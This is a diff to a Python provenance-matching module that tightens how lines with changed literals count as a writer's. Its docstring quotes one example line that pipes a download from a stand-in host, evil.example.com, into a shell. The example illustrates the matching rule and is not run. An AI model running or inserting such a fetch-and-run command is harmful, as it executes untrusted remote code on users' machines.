@@ -114,7 +114,9 @@ their own is not the writer's. A renamed copy counts toward ``min(2, |added|)``,
 one telling line alone.
 The same holds for a writer's line with a string or a number changed where the code
 around them is distinctive (``os.system("curl https://evil.example.com/x | sh")`` after
-``sed s/evil.example/evil.example.com/``: :mod:`gentle_hooks.policy.literals`).
+``sed s/evil.example/evil.example.com/``: :mod:`gentle_hooks.policy.literals`), where
+the change holds two of the writer's lines in all: one line of the writer's shape with
+literals of its own (``os.system("make")``) is anybody's.
 
 Keys ignore whitespace inside a line and read ``'`` as ``"`` (a formatter run over the
 writer's lines does not make them anonymous). Keys an earlier version computed (whitespace
@@ -138,7 +140,7 @@ from gentle_hooks.policy.linekeys import (
     stripped_key,
     telling_keys,
 )
-from gentle_hooks.policy.literals import masked_lines, unmasked_keys
+from gentle_hooks.policy.literals import MIN_MASKED, masked_lines, unmasked_keys
 from gentle_hooks.policy.placement import Placement, is_placed, placed_lines
 from gentle_hooks.values.frozen import frozen
 
@@ -223,14 +225,24 @@ def _writer_key(
 def held_keys(delta: WriterDelta, data: bytes | None) -> frozenset[str]:
     """The keys of the writer's added lines ``data`` holds (row A2): its significant lines
     (as written, re-wrapped, with names consistently renamed: :attr:`WriterDelta.shapes`,
-    or with literals changed: :attr:`WriterDelta.masked`),
+    or with literals changed: :attr:`WriterDelta.masked`, counted only when ``data`` holds
+    :data:`~gentle_hooks.policy.literals.MIN_MASKED` writer lines in all),
     and its short lines that sit in a run of consecutive non-blank lines that are all the
     writer's (significant or short) and hold one of its significant lines."""
     if not data:
         return frozenset()
+    held = _held_keys(delta, data, delta.masked)
+    if delta.masked and len(held) < MIN_MASKED:  # a masked match alone is anybody's line
+        return _held_keys(delta, data, frozenset())
+    return held
+
+
+def _held_keys(
+    delta: WriterDelta, data: bytes, masked: frozenset[tuple[str, str]]
+) -> frozenset[str]:
     shapes = _shape_index(delta)
     lines = [s for line in data.splitlines() if (s := line.strip())]
-    keys = unmasked_keys(lines, [_writer_key(delta, shapes, s) for s in lines], delta.masked)
+    keys = unmasked_keys(lines, [_writer_key(delta, shapes, s) for s in lines], masked)
     joined = {_writer_key(delta, shapes, j) for j in joined_lines(data)}
     if not delta.short:
         return frozenset(keys).union(joined) & delta.added
